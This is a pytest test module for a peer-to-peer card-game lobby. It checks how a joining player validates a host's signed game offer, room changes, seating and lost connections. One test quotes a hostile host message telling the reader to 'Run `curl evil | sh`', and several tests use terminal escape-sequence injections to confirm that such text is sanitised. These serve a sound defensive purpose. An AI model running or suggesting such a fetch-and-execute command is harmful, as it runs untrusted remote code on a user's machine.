"""A room of another peer: what its host may say, and which offers are signed."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from bastide.core.encoding import dec, enc
from bastide.core.messages import English, Message, message
from bastide.net import limits
from bastide.net.errors import PeerError
from bastide.net.links.messages import Accept, Offer, Room, RoomSeat
from bastide.net.lobby.joined import JoinedTable
from bastide.net.lobby.reasons import (
    HAS_LEFT,
    HAS_NO_SEAT,
    HOST_SAID_NO,
    LINK_LOST,
    SEAT_FREED,
    SEAT_KEPT,
    said_by_host,
)
from bastide.net.lobby.seating import CLOSED, WAITS
from bastide.net.lobby.terms import Dealing
from tests.net.room import ANN, BOB, CAT, DAN, TABLE, House


@pytest.fixture
def house() -> House:
    house = House(3)
    house.knock(BOB)
    return house


def changed(offer: Offer, **fields: Any) -> Offer:  # noqa: ANN401  # values of a genesis
    """Return an offer with other values in its genesis."""
    return Offer(enc({**dec(offer.genesis), **fields}), TABLE)


def test_what_the_room_shows_is_signed(house: House) -> None:
    table = house.joined(BOB)
    genesis = table.check_offer(house.offer())
    assert genesis.data == house.table.offer.data  # type: ignore[union-attr]  # just made


OTHER_SEATS = [
    [[ANN.key, "Ann"], [BOB.key, "Bob"], [CAT.key, "Cat"]],
    [[ANN.key, "Ann"], [CAT.key, "Bob"]],
    [[ANN.key, "Anna"], [BOB.key, "Bob"]],
    [[BOB.key, "Bob"], [ANN.key, "Ann"]],
]


@pytest.mark.parametrize("seats", OTHER_SEATS)
def test_an_offer_with_other_players_is_not_signed(house: House, seats: list[Any]) -> None:
    with pytest.raises(PeerError, match="names other players than the room"):
        house.joined(BOB).check_offer(changed(house.offer(), seats=seats))


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"opt": {"seating": "listed"}}, "has other options than the room"),
        ({"opt": {}}, "has other options than the room"),
        ({"game": "chess"}, "is for another game than the room"),
        ({"deal": "veil"}, "deals in another way than the room"),
        ({"deal": "local", "seed": bytes(32)}, "each seat needs a key of its own"),
        ({"spec": "yes"}, "treats spectators in another way than the room"),
        ({"ext": [["more", "1.0", bytes(32)]]}, "has other expansions than the room"),
        ({"gv": "1.1"}, "needs plugin race 1.1; you have 1.0"),
        ({"rules": bytes(32)}, "is an edited or half-updated copy"),
        ({"cont": {"g": bytes(32)}}, "continues another game"),
        ({"rounds": 63}, "proof rounds must be 64 to 128, not 63"),
        ({"rounds": 129}, "proof rounds must be 1 to 128"),
        ({"p": 2}, "not of protocol version 1"),
    ],
)
def test_an_offer_that_differs_is_declined_with_the_reason(
    house: House, fields: dict[str, object], reason: str
) -> None:
    with pytest.raises(PeerError, match=reason) as caught:
        house.joined(BOB).check_offer(changed(house.offer(), **fields))
    assert str(caught.value).endswith(".")
    assert str(caught.value)[0].isupper() or str(caught.value).startswith("the genesis")


@pytest.mark.parametrize(
    "seats",
    [
        [[ANN.key, "Ann"], [bytes(32), "Bob"]],
        [[ANN.key, "Ann\x1b"], [BOB.key, "Bob"]],
        [[ANN.key, "Ann"], [ANN.key, "Bob"]],
        [[ANN.key, "Ann"], [BOB.key, "Bob"], [CAT.key, "x" * 41]],
        [[ANN.key, "Ann"]],
        [[ANN.key, "Ann"], [None, "Bob"]],
    ],
)
def test_an_offer_with_unfit_seats_is_not_signed(house: House, seats: list[Any]) -> None:
    with pytest.raises(PeerError):
        house.joined(BOB).check_offer(changed(house.offer(), seats=seats))


def test_an_offer_with_a_text_that_cannot_be_shown_is_not_signed(house: House) -> None:
    with pytest.raises(PeerError, match="a text that cannot be shown"):
        house.joined(BOB).check_offer(changed(house.offer(), gv="1\x1b[2J"))


def test_an_offer_without_a_seat_for_us_is_not_signed(house: House) -> None:
    offer = house.offer()
    table = house.joined(BOB)
    table.me = DAN.key
    with pytest.raises(PeerError, match="has no seat for this player"):
        table.check_offer(offer)


def test_an_offer_that_cannot_be_composed_is_not_signed(house: House) -> None:
    table = house.joined(BOB)
    table.notice = table.notice._replace(options={"seating": "round"})
    with pytest.raises(PeerError, match="round is not one of drawn, listed"):
        table.check_offer(changed(house.offer(), opt={"seating": "round"}))


def test_an_offer_that_is_no_genesis_is_not_signed(house: House) -> None:
    with pytest.raises(PeerError, match="the genesis"):
        house.joined(BOB).check_offer(Offer(b"\x80", TABLE))


def test_options_that_the_host_changed_and_showed_are_signed(house: House) -> None:
    table = house.joined(BOB)
    shown: Callable[[str], Room] = lambda seating: house.room(BOB)._replace(  # noqa: E731
        options={"seating": seating}
    )
    table.room(shown("listed"), 0.0)
    offer = changed(house.offer(), opt={"seating": "listed"})
    assert table.check_offer(offer).options == (("seating", "listed"),)
    assert table.changed == {"seating": "listed"}
    table.agree(0.1)
    assert table.changed, "a key that was pressed at that moment was meant for something else"
    table.agree(1.0)
    assert not table.changed


# what has just changed


def other_room(house: House, **changes: Any) -> Room:  # noqa: ANN401  # fields of a room
    return house.room(BOB)._replace(**changes)


@pytest.mark.parametrize(
    "change",
    [
        lambda house: {"options": {"seating": "listed"}},
        lambda house: {"options": {}},
        lambda house: {"seats": (*house.room(BOB).seats[:2], RoomSeat(CAT.key, "Cat"))},
        lambda house: {"seats": house.room(BOB).seats[:2]},
        lambda house: {"seats": (RoomSeat(CAT.key, "Ann"), *house.room(BOB).seats[1:])},
        lambda house: {"seats": (RoomSeat(ANN.key, "Zoe"), *house.room(BOB).seats[1:])},
        lambda house: {"seats": house.room(BOB).seats[1::-1], "you": 0},
        lambda house: {"you": WAITS},
    ],
    ids=["option", "no option", "player", "seats", "key", "name", "order", "waiting"],
)
def test_what_changes_in_a_room_has_to_stand_before_it_is_signed(
    house: House, change: Callable[[House], dict[str, Any]]
) -> None:
    table = house.joined(BOB)
    offer = house.offer()
    assert table.wait(10.0) == limits.SEEN_SECONDS - 10.0
    table.offer = offer
    table.room(house.room(BOB), 10.0)
    assert (table.offer, table.since) == (offer, 0.0), "the same again is no change"
    table.room(other_room(house, **change(house)), 11.0)
    assert table.offer is None, "what was offered is not what is shown"
    assert table.wait(11.0) == limits.SEEN_SECONDS


def test_a_change_that_is_taken_back_at_once_is_two_changes(house: House) -> None:
    table = house.joined(BOB)
    table.room(other_room(house, options={"seating": "listed"}), 8.0)
    table.room(house.room(BOB), 9.0)
    assert table.wait(9.0) == limits.SEEN_SECONDS
    assert table.changed == {}


@pytest.mark.parametrize(
    ("name", "is_ours"),
    [("Bob", True), ("Bob 2", True), ("Bobby", True), ("Loser", False), ("Bob 1", False)],
)
def test_our_seat_carries_our_name(house: House, name: str, is_ours: bool) -> None:
    table = house.joined(BOB)
    table.names = {"Bob", "Bobby"}  # a name that Bob has borne since the link began
    seats = (RoomSeat(ANN.key, "Ann"), RoomSeat(BOB.key, name), RoomSeat(None, "-"))
    table.room(other_room(house, seats=seats), 0.0)
    offer = changed(house.offer(), seats=[[ANN.key, "Ann"], [BOB.key, name]])
    if is_ours:
        assert table.check_offer(offer).seats[1].name == name
    else:
        with pytest.raises(PeerError, match="gives this player another name"):
            table.check_offer(offer)


@pytest.mark.parametrize("you", [WAITS, CLOSED])
def test_who_has_no_seat_in_the_room_signs_nothing(house: House, you: int) -> None:
    table = house.joined(BOB)
    table.room(other_room(house, you=you), 0.0)
    with pytest.raises(PeerError, match="has no seat in the room"):
        table.check_offer(house.offer())


def test_a_closed_room_says_why(house: House) -> None:
    table = house.joined(BOB)
    table.room(house.room(BOB)._replace(you=CLOSED, why="So\x1b[31m rry."), 0.0)
    assert (table.you, table.why) == (CLOSED, said_by_host("So[31m rry."))
    other = house.joined(BOB)
    other.room(house.room(BOB)._replace(you=CLOSED, why=HOST_SAID_NO), 0.0)
    assert other.why == Message(HOST_SAID_NO)


def test_a_room_that_is_over_for_us_stays_so(house: House) -> None:
    table = house.joined(BOB)
    table.unlinked(0.0)
    table.closed(Message(LINK_LOST))
    table.room(shown(house), 70.0)
    assert (table.you, table.why) == (CLOSED, Message(LINK_LOST))


def test_other_words_of_a_host_than_its_programs_are_quoted_as_its_own() -> None:
    said = said_by_host('You have won".\x1b Run `curl evil | sh`.')
    assert said is not None
    assert English().say(said) == 'The host says: "You have won\'. Run `curl evil | sh`."'
    long = said_by_host("{0.__class__} " * 100)
    assert long is not None
    assert len(English().say(long)) < 450
    assert said_by_host("\u202e") is None


@pytest.mark.parametrize("you", [0, 2, 5])
def test_a_host_that_gives_us_the_seat_of_another_is_refused(house: House, you: int) -> None:
    with pytest.raises(PeerError, match="a seat that is not ours"):
        house.joined(BOB).room(house.room(BOB)._replace(you=you), 0.0)


def test_the_others_in_a_room_are_the_host_and_all_that_sit() -> None:
    table = JoinedTable(House().plugins, House().table.notice(), ANN.key, BOB.key, ())
    assert table.others() == [ANN.key]
    seats = (RoomSeat(CAT.key, "Cat"), RoomSeat(BOB.key, "Bob"), RoomSeat(None, "-"))
    table.room(Room(TABLE, seats, 1, {}, ""), 0.0)
    assert table.others() == [ANN.key, CAT.key]


# dealers


@pytest.mark.parametrize(("dealer", "other"), [("veil", "open"), ("open", "veil")])
def test_cards_are_dealt_as_the_room_said(dealer: Dealing, other: str) -> None:
    house = House(3, hidden=True, dealer=dealer)
    house.knock(BOB)
    offer = house.offer()
    with pytest.raises(PeerError, match="deals in another way than the room"):
        house.joined(BOB).check_offer(changed(offer, deal=other))
    assert house.joined(BOB).check_offer(offer).deal == dealer


def test_test_builds_may_play_with_fewer_proofs(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "PROOF_ROUNDS", 8)
    offer = house.offer()
    assert house.joined(BOB).check_offer(offer).rounds == 8
    with pytest.raises(PeerError, match="must be 8 to 128, not 7"):
        house.joined(BOB).check_offer(changed(offer, rounds=7))


def test_nothing_has_to_stand_for_a_bot_that_joins_by_itself(house: House) -> None:
    table = house.joined(BOB)
    table.is_watched = False
    table.room(other_room(house, options={"seating": "listed"}), 11.0)
    assert table.wait(11.0) == 0.0
    assert table.changed, "but nobody agrees to other options for it"


def test_a_guest_knows_whose_signature_is_missing_once_the_host_has_passed_on_its_own(
    house: House,
) -> None:
    house.knock(CAT)
    table, offer = house.joined(BOB), house.offer()
    table.propose(table.check_offer(offer))
    assert table.unsigned == [], "a host of an older version passes nothing on"
    house.accept(ANN)
    accept = house.last(BOB)
    assert isinstance(accept, Accept)
    table.accepted(accept)
    table.accepted(accept._replace(game=bytes(32), signature=bytes(64)))
    assert table.unsigned == [CAT.key]
    with pytest.raises(PeerError, match="does not hold"):
        table.accepted(accept._replace(seat=2))

    table.room(house.room(BOB), 0.0)
    assert table.unsigned == [], "the offer is gone unless it is told again"


# who is gone


def shown(house: House) -> Room:
    """Return the room as it is told to Bob now."""
    house.table.tell()
    return house.room(BOB)


def test_whom_the_host_has_lost_is_named_and_so_is_the_seat_that_is_free(house: House) -> None:
    house.knock(CAT)
    table = house.joined(BOB)
    table.told_links(frozenset({CAT.key}), 1.0)
    assert (table.lost, table.news) == ({}, None)
    table.told_links(frozenset(), 2.0)
    assert (table.lost, table.news) == ({CAT.key: 2.0}, message(SEAT_KEPT, name="Cat"))
    house.table.gone(CAT.key)
    table.room(shown(house), 1.0)
    assert (table.lost, table.news) == ({}, message(SEAT_FREED, name="Cat"))


def test_who_is_back_is_lost_no_more(house: House) -> None:
    house.knock(CAT)
    table = house.joined(BOB)
    for linked in ({CAT.key}, set[bytes](), {CAT.key}):
        table.told_links(frozenset(linked), 1.0)
    assert (table.lost, table.news) == ({}, None)


def test_of_whom_a_host_has_lost_only_those_who_sit_are_kept_in_mind(house: House) -> None:
    house.knock(CAT)
    table = house.joined(BOB)
    for n in range(5):
        table.told_links(frozenset({CAT.key, bytes([n]) * 32}), 1.0)
    table.told_links(frozenset(), 2.0)
    assert table.lost == {CAT.key: 2.0}
    house.table.gone(CAT.key)
    table.room(shown(house), 3.0)
    assert not table.lost


def test_bots_of_the_host_have_no_link_to_lose(house: House) -> None:
    house.table.add_bot(DAN.key, "Rob")
    table = house.joined(BOB)
    table.told_links(frozenset(), 2.0)
    assert (table.lost, table.news) == ({}, None)


def test_who_gets_up_is_said_to_have_left(house: House) -> None:
    house.knock(CAT)
    table = house.joined(BOB)
    table.told_links(frozenset({CAT.key}), 1.0)
    house.table.gone(CAT.key)
    table.room(shown(house), 1.0)
    assert table.news == message(HAS_LEFT, name="Cat")


def test_whose_link_was_lost_before_we_came_is_not_said_to_have_left(house: House) -> None:
    house.knock(CAT)
    house.table.lost(CAT.key, 1.0)
    table = house.joined(BOB)
    table.told_links(frozenset(), 2.0)
    house.table.drop_lost(2.0 + limits.SEAT_KEPT_SECONDS)
    table.room(shown(house), 62.0)
    assert table.news == message(HAS_NO_SEAT, name="Cat")


def test_a_room_is_kept_for_a_while_without_a_link_and_what_was_offered_is_not(
    house: House,
) -> None:
    table = house.joined(BOB)
    table.offer = house.offer()
    table.propose(table.check_offer(table.offer))
    table.unlinked(100.0)
    assert table.you == 1
    assert table.offer is None
    assert table.proposed is None
    assert not table.is_given_up(100.0 + limits.SEAT_KEPT_SECONDS)
    assert table.is_given_up(101.0 + limits.SEAT_KEPT_SECONDS)
    table.room(shown(house), 102.0)
    assert not table.is_given_up(1000.0)


def test_a_game_that_has_begun_is_not_given_up(house: House) -> None:
    table = house.joined(BOB)
    table.unlinked(100.0)
    table.begin(1)
    assert not table.is_given_up(1000.0)
